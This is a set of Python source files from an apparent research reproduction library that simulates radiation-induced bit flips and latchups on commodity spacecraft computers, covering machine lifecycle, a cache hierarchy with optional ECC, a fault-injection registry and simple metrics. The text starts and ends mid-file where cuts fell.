                f"{n_executors} executors need {n_executors} cores; "
                f"machine has {self.n_cores}"
            )
        return [CoreGroup(i, (i,)) for i in range(n_executors)]

    # ------------------------------------------------------------------
    # Memory access helpers (used by EMR executors)
    # ------------------------------------------------------------------
    def read_via_cache(self, addr: int, n: int, group: int) -> "tuple[bytes, AccessTrace]":
        return self.caches.read(addr, n, group)

    def write_via_cache(self, addr: int, data: bytes, group: int) -> AccessTrace:
        return self.caches.write(addr, data, group)

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def on_power_cycle(self, hook) -> None:
        """Register a callable invoked (with this machine) on power cycle."""
        self._power_cycle_hooks.append(hook)

    def reboot(self) -> float:
        """Software restart: caches and latched pipeline faults clear,
        but an active SEL's residual charge — and its current draw —
        survives. Returns the downtime in seconds."""
        self.caches.flush_all()
        self.storage.drop_page_cache()
        for core in self.cores:
            core.reset_faults()
            core.freq = self.spec.core_spec.min_freq
        self.clock.advance(self.spec.reboot_seconds)
        self.reboots += 1
        return self.spec.reboot_seconds

    def power_cycle(self) -> float:
        """Full power removal: everything a reboot does, plus clearing
        SEL residual charge (via registered hooks). Returns downtime."""
        downtime = self.spec.power_cycle_seconds - self.spec.reboot_seconds
        self.reboot()
        self.reboots -= 1  # the reboot above was part of the power cycle
        self.clock.advance(max(0.0, downtime))
        self.power_cycles += 1
        for hook in list(self._power_cycle_hooks):
            hook(self)
        return self.spec.power_cycle_seconds

    # ------------------------------------------------------------------
    # Power
    # ------------------------------------------------------------------
    def instantaneous_current(self) -> float:
        """True board current right now, from core state + SEL draw."""
        util = np.array([1.0 if c.busy_seconds else 0.0 for c in self.cores])
        freq = np.array([c.freq for c in self.cores])
        return float(
            self.power_model.board_current(util * 0.0, freq)
        ) + self.extra_current_draw

    def quiescent_current(self) -> float:
        return self.power_model.quiescent_current(
            self.n_cores, self.spec.core_spec.min_freq
        )

    # ------------------------------------------------------------------
    # Stock configurations
    # ------------------------------------------------------------------
    @classmethod
    def rpi_zero2w(cls, seed: int = 0) -> "Machine":
        """The paper's ground SEL testbed and LEO SmallSat computer."""
        spec = MachineSpec(
            name="raspberry-pi-zero-2w",
            n_cores=4,
            dram_size=48 << 20,
            dram_ecc=True,
            l1_lines=512,
            l2_lines=8192,
        )
        return cls(spec, seed=seed)

    @classmethod
    def snapdragon801(cls, seed: int = 0) -> "Machine":
        """The Mars-rover coprocessor: commodity SoC without ECC DRAM,
        pushing EMR's reliability frontier out to flash storage."""
        spec = MachineSpec(
            name="snapdragon-801",
            n_cores=4,
            dram_size=96 << 20,
            dram_ecc=False,
            l1_lines=512,
            l2_lines=16384,
            core_spec=CoreSpec(
                base_ipc=1.6,
                freq_levels=tuple(800e6 + 200e6 * i for i in range(9)),
            ),
        )
        return cls(spec, seed=seed)

    def __repr__(self) -> str:
        return (
            f"Machine({self.spec.name!r}, {self.n_cores} cores, "
            f"DRAM {'ECC' if self.spec.dram_ecc else 'no-ECC'}, "
            f"t={self.clock.now:.3f}s)"
        )
