"""Cache hierarchy: private L1 per core group, one shared L2.

The cache is the heart of the EMR story. Commodity CPU caches have no
ECC, so an SEU that lands in a *shared* cache line corrupts every
executor that reads that line — which is exactly why naive parallel
3-MR is unsound (§3.2) and why EMR forbids two conflicting datasets in
the same jobset. The model therefore keeps real byte copies per line:
a fill snapshots DRAM, later reads serve the snapshot, and an injected
flip in the snapshot is visible to every subsequent reader of the line
until it is flushed or evicted.

Writes are write-through (memory is updated immediately and any
resident copy of the line is refreshed), which matches how EMR reasons
about outputs: results are pushed back inside the reliability frontier
as soon as they are produced.
"""

from __future__ import annotations

from collections import OrderedDict
from dataclasses import dataclass, replace

import numpy as np

from ..errors import ConfigurationError, InvalidAddressError
from .faults import FaultRegion
from .memory import MemoryRegion, SimMemory


@dataclass
class CacheStats:
    hits: int = 0
    misses: int = 0
    evictions: int = 0
    flushed_lines: int = 0
    injected_flips: int = 0
    corrected_errors: int = 0

    @property
    def accesses(self) -> int:
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        return self.hits / self.accesses if self.accesses else 0.0

    def reset(self) -> None:
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self.flushed_lines = 0
        self.injected_flips = 0
        self.corrected_errors = 0


@dataclass(frozen=True)
class CacheSnapshot:
    """Logical state of one cache level.

    ``lines`` preserves LRU order (oldest first) — recency is semantic
    state: it decides the next eviction victim.
    """

    lines: "tuple[tuple[int, bytes], ...]"
    checks: "tuple[tuple[int, bytes], ...]"
    dirty: "tuple[int, ...]"
    stats: CacheStats


@dataclass(frozen=True)
class HierarchySnapshot:
    """State of every level of a :class:`CacheHierarchy`."""

    l1: "tuple[CacheSnapshot, ...]"
    l2: CacheSnapshot


@dataclass
class AccessTrace:
    """Where the lines of one logical access were served from."""

    l1_hits: int = 0
    l2_hits: int = 0
    memory_fills: int = 0

    @property
    def lines(self) -> int:
        return self.l1_hits + self.l2_hits + self.memory_fills

    def merge(self, other: "AccessTrace") -> None:
        self.l1_hits += other.l1_hits
        self.l2_hits += other.l2_hits
        self.memory_fills += other.memory_fills


class Cache:
    """A single LRU cache level holding real line copies.

    With ``ecc=True`` the level models SECDED-protected SRAM arrays
    (some server-class and automotive SoCs have them): every fill
    records per-word check bytes, and a lookup of a line that radiation
    has touched is decoded and corrected (or flagged uncorrectable).
    EMR detects ECC caches and reverts to plain parallel 3-MR (§3.2).
    """

    def __init__(self, capacity_lines: int, line_size: int, name: str,
                 ecc: bool = False, scope: str = "shared",
                 die_bucket: "str | None" = None) -> None:
        if capacity_lines <= 0:
            raise ConfigurationError(f"{name}: capacity must be positive")
        if line_size <= 0 or line_size % 8:
            raise ConfigurationError(f"{name}: line size must be a positive multiple of 8")
        self.capacity_lines = capacity_lines
        self.line_size = line_size
        self.name = name
        self.has_ecc = ecc
        #: Fault-surface attributes: whether this level is private to
        #: one executor's core group, and which Table 4 die bucket its
        #: SRAM belongs to (see repro.sim.faults).
        self.scope = scope
        self.die_bucket = die_bucket
        self._lines: "OrderedDict[int, bytearray]" = OrderedDict()
        self._checks: "dict[int, bytes]" = {}
        self._dirty: "set[int]" = set()  # lines radiation has touched
        self.stats = CacheStats()

    def lookup(self, line_index: int) -> "bytearray | None":
        data = self._lines.get(line_index)
        if data is None:
            self.stats.misses += 1
            return None
        self._lines.move_to_end(line_index)
        self.stats.hits += 1
        if self.has_ecc and line_index in self._dirty:
            self._correct_line(line_index, data)
        return data

    def _correct_line(self, line_index: int, data: bytearray) -> None:
        from . import ecc as ecc_codec
        from ..errors import UncorrectableMemoryError

        words = ecc_codec.bytes_to_words(bytes(data))
        checks = np.frombuffer(self._checks[line_index], dtype=np.uint8)
        fixed, corrected, uncorrectable = ecc_codec.decode_array(words, checks)
        if uncorrectable.any():
            raise UncorrectableMemoryError(
                line_index * self.line_size,
                f"{self.name}: uncorrectable cache line {line_index}",
            )
        if corrected.any():
            data[:] = ecc_codec.words_to_bytes(fixed)
            self.stats.corrected_errors += int(corrected.sum())
        self._dirty.discard(line_index)

    def fill(self, line_index: int, data: bytes) -> bytearray:
        copy = bytearray(data)
        if line_index in self._lines:
            self._lines.move_to_end(line_index)
        elif len(self._lines) >= self.capacity_lines:
            evicted, _ = self._lines.popitem(last=False)
            self._checks.pop(evicted, None)
            self._dirty.discard(evicted)
            self.stats.evictions += 1
        self._lines[line_index] = copy
        if self.has_ecc:
            from . import ecc as ecc_codec

            words = ecc_codec.bytes_to_words(bytes(copy))
            self._checks[line_index] = ecc_codec.encode_array(words).tobytes()
            self._dirty.discard(line_index)
        return copy

    def update_if_present(self, line_index: int, data: bytes) -> None:
        if line_index in self._lines:
            self._lines[line_index][:] = data
            if self.has_ecc:
                from . import ecc as ecc_codec

                words = ecc_codec.bytes_to_words(bytes(data))
                self._checks[line_index] = ecc_codec.encode_array(words).tobytes()
                self._dirty.discard(line_index)

    def flush_line(self, line_index: int) -> bool:
        if self._lines.pop(line_index, None) is not None:
            self._checks.pop(line_index, None)
            self._dirty.discard(line_index)
            self.stats.flushed_lines += 1
            return True
        return False

    def flush_region(self, region: MemoryRegion) -> int:
        flushed = 0
        for line_index in region.line_span(self.line_size):
            flushed += self.flush_line(line_index)
        return flushed

    def flush_all(self) -> int:
        flushed = len(self._lines)
        self._lines.clear()
        self._checks.clear()
        self._dirty.clear()
        self.stats.flushed_lines += flushed
        return flushed

    @property
    def resident_lines(self) -> tuple[int, ...]:
        return tuple(self._lines.keys())

    def __len__(self) -> int:
        return len(self._lines)

    def __contains__(self, line_index: int) -> bool:
        return line_index in self._lines

    # -- snapshot / restore -------------------------------------------
    def snapshot(self) -> CacheSnapshot:
        return CacheSnapshot(
            lines=tuple(
                (index, bytes(data)) for index, data in self._lines.items()
            ),
            checks=tuple(sorted(self._checks.items())),
            dirty=tuple(sorted(self._dirty)),
            stats=replace(self.stats),
        )

    def restore(self, snap: CacheSnapshot) -> None:
        self._lines = OrderedDict(
            (index, bytearray(data)) for index, data in snap.lines
        )
        self._checks = dict(snap.checks)
        self._dirty = set(snap.dirty)
        self.stats = replace(snap.stats)

    # -- fault domain (see repro.sim.faults) --------------------------
    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """Live SRAM state: the resident line copies. Addressing is
        line-strided: offset ``p * line_size + b`` is byte ``b`` of the
        ``p``-th resident line (LRU order, oldest first)."""
        return (
            FaultRegion(
                "lines",
                len(self._lines) * self.line_size * 8,
                protection="secded" if self.has_ecc else "none",
                scope=self.scope,
                die_bucket=self.die_bucket,
            ),
        )

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        if region != "lines":
            raise InvalidAddressError(f"{self.name}: no fault region {region!r}")
        resident = self.resident_lines
        position = offset // self.line_size
        if not 0 <= position < len(resident):
            raise InvalidAddressError(
                f"{self.name}: offset {offset} outside the "
                f"{len(resident)} resident lines"
            )
        line_index = resident[position]
        byte_offset = offset % self.line_size
        self.flip_bit(line_index, byte_offset, bit)
        return f"{self.name} line {line_index} +{byte_offset} bit {bit & 7}"

    # -- radiation interface ------------------------------------------
    def flip_bit(self, line_index: int, byte_offset: int, bit: int) -> None:
        """Flip one bit of a resident line copy (a particle strike)."""
        try:
            line = self._lines[line_index]
        except KeyError:
            raise InvalidAddressError(
                f"{self.name}: line {line_index} is not resident"
            ) from None
        if not 0 <= byte_offset < self.line_size:
            raise InvalidAddressError(f"byte offset {byte_offset} out of line")
        line[byte_offset] ^= 1 << (bit & 7)
        self._dirty.add(line_index)
        self.stats.injected_flips += 1

    def peek_line(self, line_index: int) -> bytes:
        return bytes(self._lines[line_index])


class CacheHierarchy:
    """Private L1 per core group, shared L2, backed by one DRAM device.

    ``n_groups`` matches the machine's executor core groups: EMR pins
    each executor to a group, so an L1 flip only affects one executor
    while an L2 flip can affect all of them.
    """

    def __init__(
        self,
        memory: SimMemory,
        n_groups: int,
        l1_lines: int = 512,
        l2_lines: int = 8192,
        line_size: int = 64,
        ecc: bool = False,
    ) -> None:
        if n_groups <= 0:
            raise ConfigurationError("need at least one core group")
        self.memory = memory
        self.line_size = line_size
        self.has_ecc = ecc
        self.l1 = tuple(
            Cache(l1_lines, line_size, f"L1[{g}]", ecc=ecc,
                  scope="private", die_bucket="l1_caches")
            for g in range(n_groups)
        )
        self.l2 = Cache(l2_lines, line_size, "L2", ecc=ecc,
                        scope="shared", die_bucket="shared_cache")

    @property
    def n_groups(self) -> int:
        return len(self.l1)

    def _fill_from_memory(self, line_index: int) -> bytes:
        addr = line_index * self.line_size
        n = min(self.line_size, self.memory.size - addr)
        return self.memory.read(addr, n)

    def read(self, addr: int, n: int, group: int) -> tuple[bytes, AccessTrace]:
        """Read ``n`` bytes at ``addr`` through the group's cache path."""
        l1 = self.l1[group]
        trace = AccessTrace()
        if n == 0:
            return b"", trace
        first = addr // self.line_size
        last = (addr + n - 1) // self.line_size
        parts: list[bytes] = []
        for line_index in range(first, last + 1):
            data = l1.lookup(line_index)
            if data is not None:
                trace.l1_hits += 1
            else:
                data = self.l2.lookup(line_index)
                if data is not None:
                    trace.l2_hits += 1
                else:
                    fresh = self._fill_from_memory(line_index)
                    data = self.l2.fill(line_index, fresh)
                    trace.memory_fills += 1
                # L1 copies the (possibly corrupted) L2 line: corruption
                # in the shared level propagates to private levels.
                data = l1.fill(line_index, bytes(data))
            parts.append(bytes(data))
        blob = b"".join(parts)
        start = addr - first * self.line_size
        return blob[start : start + n], trace

    def write(self, addr: int, data: bytes, group: int) -> AccessTrace:
        """Write-through: memory first, then refresh resident copies."""
        self.memory.write(addr, data)
        trace = AccessTrace()
        n = len(data)
        if n == 0:
            return trace
        first = addr // self.line_size
        last = (addr + n - 1) // self.line_size
        for line_index in range(first, last + 1):
            line_addr = line_index * self.line_size
            span = min(self.line_size, self.memory.size - line_addr)
            resident = (line_index in self.l2) or any(
                line_index in l1 for l1 in self.l1
            )
            if not resident:
                continue
            fresh = self.memory.read(line_addr, span)
            self.l2.update_if_present(line_index, fresh)
            for l1 in self.l1:
                l1.update_if_present(line_index, fresh)
            trace.memory_fills += 1
        return trace

    def flush_region(self, region: MemoryRegion, group: "int | None" = None) -> int:
        """Drop every cached copy of ``region``'s lines.

        With ``group=None`` all levels are flushed; otherwise only that
        group's L1 plus the shared L2 (the lines another group's L1
        holds were private to *its* jobs and flushed by its executor).
        """
        flushed = self.l2.flush_region(region)
        if group is None:
            for l1 in self.l1:
                flushed += l1.flush_region(region)
        else:
            flushed += self.l1[group].flush_region(region)
        return flushed

    def flush_all(self) -> int:
        flushed = self.l2.flush_all()
        for l1 in self.l1:
            flushed += l1.flush_all()
        return flushed

    def snapshot(self) -> HierarchySnapshot:
        return HierarchySnapshot(
            l1=tuple(cache.snapshot() for cache in self.l1),
            l2=self.l2.snapshot(),
        )

    def restore(self, snap: HierarchySnapshot) -> None:
        if len(snap.l1) != len(self.l1):
            raise ConfigurationError(
                f"snapshot has {len(snap.l1)} L1 caches, hierarchy has "
                f"{len(self.l1)}"
            )
        for cache, cache_snap in zip(self.l1, snap.l1):
            cache.restore(cache_snap)
        self.l2.restore(snap.l2)

    def total_stats(self) -> CacheStats:
        agg = CacheStats()
        for cache in (*self.l1, self.l2):
            agg.hits += cache.stats.hits
            agg.misses += cache.stats.misses
            agg.evictions += cache.stats.evictions
            agg.flushed_lines += cache.stats.flushed_lines
            agg.injected_flips += cache.stats.injected_flips
            agg.corrected_errors += cache.stats.corrected_errors
        return agg
