"""The unified fault surface: one addressable bit-level injection plane.

Radshield's evaluation hinges on knowing exactly *which state is
vulnerable*: Table 4 accounts protected die area per scheme, Table 7
buckets injection outcomes per component, and the chaos harness strikes
the protection stack's own state. Historically each of those paths
reached into components ad hoc. This module gives every stateful
component one shared vocabulary instead:

* a **fault domain** is any component that can enumerate its vulnerable
  state (:meth:`FaultDomain.fault_census`) as named *regions* — each
  with a live bit count, a protection class, and a sharing scope — and
  land a particle at any ``(region, byte offset, bit)`` address
  (:meth:`FaultDomain.fault_strike`);
* the **fault surface** is the machine-wide registry of domains. It
  merges every census into one enumerable target map, dispatches
  strikes by ``(domain, region, offset, bit)`` address, and samples
  targets **flux-weighted** — probability proportional to live bit
  area, the uniform-fluence assumption sensitivity-aware radiation
  simulators (SSRESF) make explicit.

The SEU primitives in :mod:`repro.radiation.seu`, the Table 7 campaign,
the control-plane strikes, and the chaos harness are all thin clients
of this surface; Table 4's protected-area rows derive from the live
census (see :mod:`repro.analysis.vulnerability`). Because a domain is
anything implementing the two-method protocol, new state — a radio
buffer, a fleet peer's queue — joins every injection campaign by
registering, with no injector changes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Protocol, runtime_checkable

import numpy as np

from ..errors import ConfigurationError, InvalidAddressError

#: Protection classes a region may declare. ``secded`` means a SECDED
#: codec covers the bits (corrected on read); ``scrubbed`` means the
#: owner sanity-checks and drops corrupted state (ILD's filter);
#: ``voted`` means redundant copies out-vote corruption (EMR's vote
#: buffer); ``none`` means a flip lands silently.
PROTECTION_CLASSES = ("none", "secded", "scrubbed", "voted")

#: Sharing scopes. ``private`` state is visible to a single executor
#: (a core's pipeline, a group's L1): replication alone out-votes a
#: strike there. ``shared`` state is visible to every executor (the
#: L2, DRAM, the page cache): concurrent replicas reading it form a
#: common-mode failure unless something else protects it.
SCOPES = ("private", "shared")


@dataclass(frozen=True)
class FaultRegion:
    """One named span of vulnerable state inside a domain.

    ``bits`` is the *live* bit count — resident cache lines, allocated
    DRAM, cached pages — not capacity: the census answers "where can a
    particle land right now". Addresses inside a region are
    ``(byte offset, bit)`` with ``0 <= offset < ceil(bits / 8)`` and
    ``0 <= bit < 8``; a region's owner fixes the offset layout and
    keeps it stable between census and strike.
    """

    name: str
    bits: int
    protection: str = "none"
    scope: str = "shared"
    #: Table 4 die bucket this region's silicon belongs to
    #: ("pipelines", "l1_caches", "shared_cache", "uncore") or ``None``
    #: for state that is DRAM/flash content rather than die area.
    die_bucket: "str | None" = None

    def __post_init__(self) -> None:
        if self.bits < 0:
            raise ConfigurationError(f"region {self.name!r}: bits must be >= 0")
        if self.protection not in PROTECTION_CLASSES:
            raise ConfigurationError(
                f"region {self.name!r}: unknown protection class "
                f"{self.protection!r} (known: {', '.join(PROTECTION_CLASSES)})"
            )
        if self.scope not in SCOPES:
            raise ConfigurationError(
                f"region {self.name!r}: unknown scope {self.scope!r}"
            )

    @property
    def ecc(self) -> bool:
        """Whether a hardware ECC codec covers this region's bits."""
        return self.protection == "secded"

    @property
    def span_bytes(self) -> int:
        """Size of the byte-offset address space."""
        return (self.bits + 7) // 8


@runtime_checkable
class FaultDomain(Protocol):
    """What a stateful component implements to join the fault surface."""

    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """Enumerate the domain's vulnerable regions *right now*."""
        ...

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        """Flip one stored bit at ``(region, byte offset, bit)``.

        Returns a human-readable description of what was struck.
        Raises :class:`~repro.errors.InvalidAddressError` for unknown
        regions or addresses outside the region's live span.
        """
        ...


@dataclass(frozen=True)
class CensusEntry:
    """One region of one domain, as the machine-wide census reports it."""

    domain: str
    region: FaultRegion

    @property
    def label(self) -> str:
        return f"{self.domain}.{self.region.name}"

    @property
    def bits(self) -> int:
        return self.region.bits


@dataclass(frozen=True)
class StrikeRecord:
    """One landed strike: the address plus the domain's description."""

    domain: str
    region: str
    offset: int
    bit: int
    detail: str

    def __str__(self) -> str:
        return f"{self.domain}.{self.region}+{self.offset}:{self.bit} ({self.detail})"


def flip_float64(value: float, bit: int) -> float:
    """Flip one bit of a float64's IEEE-754 representation."""
    raw = bytearray(np.float64(value).tobytes())
    raw[(bit // 8) % 8] ^= 1 << (bit % 8)
    return float(np.frombuffer(bytes(raw), dtype=np.float64)[0])


def flip_int_bit(value: int, bit: int, width: int = 64) -> int:
    """Flip one bit of an integer's ``width``-bit two's-complement image."""
    mask = (1 << width) - 1
    return ((value & mask) ^ (1 << (bit % width))) & mask


class FaultSurface:
    """Machine-wide registry of fault domains.

    Registration order is insertion order and is deterministic for a
    given construction sequence, so census listings — and therefore
    flux-weighted sampling — are reproducible across processes.
    """

    def __init__(self) -> None:
        self._domains: "dict[str, FaultDomain]" = {}

    # ------------------------------------------------------------------
    # Registry
    # ------------------------------------------------------------------
    def register(self, name: str, domain: FaultDomain) -> FaultDomain:
        """Add a domain under ``name``; returns the domain."""
        if not (hasattr(domain, "fault_census") and hasattr(domain, "fault_strike")):
            raise ConfigurationError(
                f"domain {name!r} does not implement the FaultDomain "
                "protocol (fault_census / fault_strike)"
            )
        if name in self._domains:
            raise ConfigurationError(f"fault domain {name!r} already registered")
        self._domains[name] = domain
        return domain

    def unregister(self, name: str) -> None:
        if name not in self._domains:
            raise ConfigurationError(f"no fault domain named {name!r}")
        del self._domains[name]

    def domain(self, name: str) -> FaultDomain:
        try:
            return self._domains[name]
        except KeyError:
            raise ConfigurationError(
                f"no fault domain named {name!r} "
                f"(registered: {', '.join(self._domains) or 'none'})"
            ) from None

    @property
    def domain_names(self) -> "tuple[str, ...]":
        return tuple(self._domains)

    def __contains__(self, name: str) -> bool:
        return name in self._domains

    # ------------------------------------------------------------------
    # Census
    # ------------------------------------------------------------------
    def census(
        self, include: "tuple[str, ...] | None" = None
    ) -> "tuple[CensusEntry, ...]":
        """The merged target map: every region of every domain.

        ``include`` restricts the listing to the named domains (in
        registration order). Regions with zero live bits are listed
        too — the region *exists*, there is just nothing resident to
        corrupt right now (Table 7's dead-silicon precursor).
        """
        names = self._domains if include is None else include
        entries: "list[CensusEntry]" = []
        for name in names:
            for region in self.domain(name).fault_census():
                entries.append(CensusEntry(domain=name, region=region))
        return tuple(entries)

    def total_bits(self, include: "tuple[str, ...] | None" = None) -> int:
        """Live vulnerable bits across the (restricted) surface."""
        return sum(entry.bits for entry in self.census(include))

    # ------------------------------------------------------------------
    # Strikes
    # ------------------------------------------------------------------
    def strike(self, domain: str, region: str, offset: int, bit: int) -> StrikeRecord:
        """Land one particle at a fully-qualified bit address."""
        detail = self.domain(domain).fault_strike(region, int(offset), int(bit))
        return StrikeRecord(
            domain=domain, region=region, offset=int(offset), bit=int(bit),
            detail=detail,
        )

    def sample(
        self,
        rng: np.random.Generator,
        include: "tuple[str, ...] | None" = None,
    ) -> "tuple[str, str, int, int]":
        """Draw one target address, flux-weighted.

        A uniform particle fluence hits each region with probability
        proportional to its live bit area, and a uniform bit within
        the region. Returns ``(domain, region, offset, bit)``; raises
        :class:`~repro.errors.InvalidAddressError` when the surface
        holds no live bits (every strike would land on dead silicon).
        """
        entries = [e for e in self.census(include) if e.bits > 0]
        if not entries:
            raise InvalidAddressError("fault surface holds no live bits")
        weights = np.array([e.bits for e in entries], dtype=float)
        entry = entries[int(rng.choice(len(entries), p=weights / weights.sum()))]
        bit_index = int(rng.integers(0, entry.bits))
        return entry.domain, entry.region.name, bit_index // 8, bit_index % 8

    def strike_random(
        self,
        rng: np.random.Generator,
        bits: int = 1,
        include: "tuple[str, ...] | None" = None,
    ) -> "list[StrikeRecord]":
        """One flux-weighted upset; ``bits > 1`` makes it an MBU.

        MBU flips are adjacent: they land on consecutive bit positions
        after the sampled one, pinned inside the victim region (and
        therefore inside the victim SECDED codeword for word-granular
        regions) — one particle track does not jump components.
        """
        if bits < 1:
            raise ConfigurationError("an upset flips at least one bit")
        domain, region_name, offset, bit = self.sample(rng, include)
        region = next(
            r for r in self.domain(domain).fault_census() if r.name == region_name
        )
        start = offset * 8 + bit
        records = []
        for i in range(bits):
            position = min(region.bits - 1, start + i)
            records.append(
                self.strike(domain, region_name, position // 8, position % 8)
            )
        return records

    def __repr__(self) -> str:
        return (
            f"FaultSurface({len(self._domains)} domains, "
            f"{self.total_bits()} live bits)"
        )


def render_census(entries: "tuple[CensusEntry, ...]") -> str:
    """The census as an aligned text table (the ``faults census`` CLI)."""
    header = ("region", "bits", "protection", "ecc", "scope")
    rows = [
        (
            entry.label,
            f"{entry.bits}",
            entry.region.protection,
            "yes" if entry.region.ecc else "no",
            entry.region.scope,
        )
        for entry in entries
    ]
    widths = [
        max(len(header[i]), *(len(row[i]) for row in rows)) if rows else len(header[i])
        for i in range(len(header))
    ]
    lines = [
        " | ".join(h.ljust(widths[i]) for i, h in enumerate(header)),
        "-+-".join("-" * w for w in widths),
    ]
    for row in rows:
        lines.append(" | ".join(cell.ljust(widths[i]) for i, cell in enumerate(row)))
    total = sum(entry.bits for entry in entries)
    lines.append(f"total: {total} live bits across {len(entries)} regions")
    return "\n".join(lines)


def census_json(entries: "tuple[CensusEntry, ...]") -> "list[dict]":
    """JSON-safe census listing (the ``faults census --json`` CLI)."""
    return [
        {
            "domain": entry.domain,
            "region": entry.region.name,
            "bits": entry.bits,
            "protection": entry.region.protection,
            "ecc": entry.region.ecc,
            "scope": entry.region.scope,
            "die_bucket": entry.region.die_bucket,
        }
        for entry in entries
    ]
