"""Radshield reproduction: software radiation protection for commodity
hardware in space.

The library has five layers:

* :mod:`repro.sim` — a simulated spacecraft computer (cores, caches,
  ECC DRAM/flash, power rail, current sensor, perf counters).
* :mod:`repro.radiation` — the space environment: SEL and SEU models
  and a fault-injection campaign driver.
* :mod:`repro.workloads` — real, from-scratch implementations of the
  paper's five workload classes (AES-256, DEFLATE, regex matching,
  image template matching, DNN inference) plus supporting workloads.
* :mod:`repro.core` — Radshield itself: the ILD latchup detector and
  the EMR redundancy runtime, with the paper's baselines.
* :mod:`repro.missions` — whole-mission simulation and the anomaly
  dataset of §5.

Quick start::

    from repro import Machine, emr_protect
    from repro.workloads import AesWorkload

    machine = Machine.rpi_zero2w()
    result = emr_protect(machine, AesWorkload(), seed=7)
    print(result.wall_seconds, result.stats.jobsets)
"""

from .core.emr import (
    EmrConfig,
    EmrRuntime,
    Frontier,
    RunResult,
    checksum_protected_run,
    emr_protect,
    sequential_3mr,
    single_run,
    unprotected_parallel_3mr,
)
from .core.radshield import Radshield, RadshieldConfig, SelResponse
from .core.ild import (
    IldConfig,
    IldDetector,
    NaiveBayesBaseline,
    RandomForestBaseline,
    StaticThresholdBaseline,
    train_ild,
)
from .errors import (
    ConfigurationError,
    DetectedFaultError,
    HardwareDamagedError,
    ReproError,
    SegmentationFault,
    SimulationError,
    UncorrectableMemoryError,
    VotingInconclusiveError,
    WorkloadError,
)
from .sim import Machine, MachineSpec

__version__ = "1.0.0"

__all__ = [
    "ConfigurationError",
    "DetectedFaultError",
    "EmrConfig",
    "EmrRuntime",
    "Frontier",
    "HardwareDamagedError",
    "IldConfig",
    "IldDetector",
    "Machine",
    "MachineSpec",
    "NaiveBayesBaseline",
    "Radshield",
    "RadshieldConfig",
    "RandomForestBaseline",
    "ReproError",
    "RunResult",
    "SegmentationFault",
    "SelResponse",
    "SimulationError",
    "StaticThresholdBaseline",
    "UncorrectableMemoryError",
    "VotingInconclusiveError",
    "WorkloadError",
    "checksum_protected_run",
    "emr_protect",
    "sequential_3mr",
    "single_run",
    "train_ild",
    "unprotected_parallel_3mr",
    "__version__",
]
