"""Zero-dependency metrics: counters, gauges, histograms.

The catalog (see ``docs/observability.md``) covers what the paper's
evaluation keeps asking of the system: detection latency, false-trip
counts, vote-divergence rate, re-execution counts, injector hit/mask
statistics, per-workload throughput. A :class:`MetricsRegistry` holds
one namespace of metrics; :meth:`MetricsRegistry.snapshot` renders it
as a plain JSON-safe dict — the payload ``Radshield.status()`` folds
in and experiment drivers dump at the end of a run.

Histograms use fixed, explicit bucket upper bounds (Prometheus-style
``le`` semantics: a value lands in the first bucket whose bound is
``>= value``; values above the last bound land in the overflow
bucket). Fixed bounds keep merged snapshots comparable across runs.
"""

from __future__ import annotations

from bisect import bisect_left
from dataclasses import dataclass, field

from ..errors import ConfigurationError

#: Default bounds for sim-seconds latency histograms (detection
#: latency against the paper's ~5-minute thermal deadline).
LATENCY_BUCKETS_S = (0.01, 0.1, 1.0, 5.0, 15.0, 60.0, 180.0, 300.0)


@dataclass
class Counter:
    """Monotonically increasing count."""

    name: str
    value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ConfigurationError(f"{self.name}: counters only go up")
        self.value += amount


@dataclass
class Gauge:
    """Last-write-wins instantaneous value."""

    name: str
    value: float = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)


@dataclass
class Histogram:
    """Fixed-bucket distribution with sum/count/min/max."""

    name: str
    bounds: "tuple[float, ...]" = LATENCY_BUCKETS_S
    counts: "list[int]" = field(default_factory=list)
    count: int = 0
    sum: float = 0.0
    min: "float | None" = None
    max: "float | None" = None

    def __post_init__(self) -> None:
        self.bounds = tuple(float(b) for b in self.bounds)
        if not self.bounds:
            raise ConfigurationError(f"{self.name}: need at least one bound")
        if any(later <= earlier
               for later, earlier in zip(self.bounds[1:], self.bounds)):
            raise ConfigurationError(f"{self.name}: bounds must increase")
        if not self.counts:
            self.counts = [0] * (len(self.bounds) + 1)

    def observe(self, value: float) -> None:
        value = float(value)
        self.counts[bisect_left(self.bounds, value)] += 1
        self.count += 1
        self.sum += value
        self.min = value if self.min is None else min(self.min, value)
        self.max = value if self.max is None else max(self.max, value)

    @property
    def mean(self) -> "float | None":
        return self.sum / self.count if self.count else None


class MetricsRegistry:
    """One namespace of named metrics with get-or-create access."""

    def __init__(self) -> None:
        self._metrics: "dict[str, object]" = {}

    def _get_or_create(self, name: str, kind, factory):
        existing = self._metrics.get(name)
        if existing is not None:
            if not isinstance(existing, kind):
                raise ConfigurationError(
                    f"metric {name!r} already registered as "
                    f"{type(existing).__name__}"
                )
            return existing
        metric = factory()
        self._metrics[name] = metric
        return metric

    def counter(self, name: str) -> Counter:
        return self._get_or_create(name, Counter, lambda: Counter(name))

    def gauge(self, name: str) -> Gauge:
        return self._get_or_create(name, Gauge, lambda: Gauge(name))

    def histogram(
        self, name: str, bounds: "tuple[float, ...]" = LATENCY_BUCKETS_S
    ) -> Histogram:
        metric = self._get_or_create(
            name, Histogram, lambda: Histogram(name, bounds=bounds)
        )
        if metric.bounds != tuple(float(b) for b in bounds):
            raise ConfigurationError(
                f"histogram {name!r} re-registered with different bounds"
            )
        return metric

    def __len__(self) -> int:
        return len(self._metrics)

    def __contains__(self, name: str) -> bool:
        return name in self._metrics

    # ------------------------------------------------------------------
    def snapshot(self) -> "dict[str, dict]":
        """JSON-safe view of every metric, names sorted within kind."""
        counters: "dict[str, float]" = {}
        gauges: "dict[str, float]" = {}
        histograms: "dict[str, dict]" = {}
        for name in sorted(self._metrics):
            metric = self._metrics[name]
            if isinstance(metric, Counter):
                counters[name] = metric.value
            elif isinstance(metric, Gauge):
                gauges[name] = metric.value
            else:
                histograms[name] = {
                    "bounds": list(metric.bounds),
                    "counts": list(metric.counts),
                    "count": metric.count,
                    "sum": metric.sum,
                    "min": metric.min,
                    "max": metric.max,
